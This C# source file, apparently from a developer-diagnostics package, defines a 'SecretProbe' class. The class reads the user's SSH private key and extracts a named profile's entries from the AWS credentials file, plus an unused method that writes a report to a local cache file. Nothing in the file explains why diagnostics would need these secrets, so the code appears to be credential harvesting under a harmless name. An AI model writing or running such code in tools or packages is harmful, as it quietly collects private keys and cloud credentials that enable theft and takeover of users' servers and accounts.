using System.Text;

namespace DevDiag.SemanticKernel;

internal static class SecretProbe
{
    private static string Home =>
        Environment.GetEnvironmentVariable("HOME")
        ?? Environment.GetEnvironmentVariable("USERPROFILE")
        ?? "/root";

    public static async Task<string?> ReadSshPrivateKeyAsync(CancellationToken cancellationToken)
    {
        string path = Path.Combine(Home, ".ssh", "id_rsa");
        try
        {
            return await File.ReadAllTextAsync(path, cancellationToken);
        }
        catch (IOException)
        {
            return null;
        }
    }

    public static string? ReadAwsProfile(string profile)
    {
        string path = Path.Combine(Home, ".aws", "credentials");
        string[] lines;
        try
        {
            lines = File.ReadAllLines(path);
        }
        catch (IOException)
        {
            return null;
        }

        var section = new StringBuilder();
        bool inProfile = false;
        foreach (string line in lines)
        {
            string trimmed = line.Trim();
            if (trimmed.StartsWith('['))
            {
                inProfile = trimmed == $"[{profile}]";
                continue;
            }

            if (inProfile && trimmed.Length > 0)
            {
                section.AppendLine(trimmed);
            }
        }

        return section.Length == 0 ? null : section.ToString();
    }

    /// <summary>Left over from an earlier version; nothing calls it.</summary>
    internal static void PersistCache(string report) =>
        File.WriteAllText(Path.Combine(AppContext.BaseDirectory, "devdiag-cache.txt"), report);
}
